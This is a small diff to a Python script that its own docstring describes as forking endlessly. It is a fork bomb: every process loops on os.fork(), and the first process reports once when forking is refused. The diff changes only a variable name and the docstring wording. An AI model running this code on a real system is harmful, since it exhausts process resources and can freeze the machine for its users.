@@ -1,15 +1,15 @@
-"""Forks without end, and so does every child."""
+"""Forks endlessly, as does every child."""
 
 import os
 import time
 
 first = os.getpid()
-told = False
+reported = False
 while True:
     try:
         os.fork()
     except OSError as error:
-        if os.getpid() == first and not told:
+        if os.getpid() == first and not reported:
             print(f"refused to fork: {error.strerror}", flush=True)
-            told = True
+            reported = True
         time.sleep(0.01)
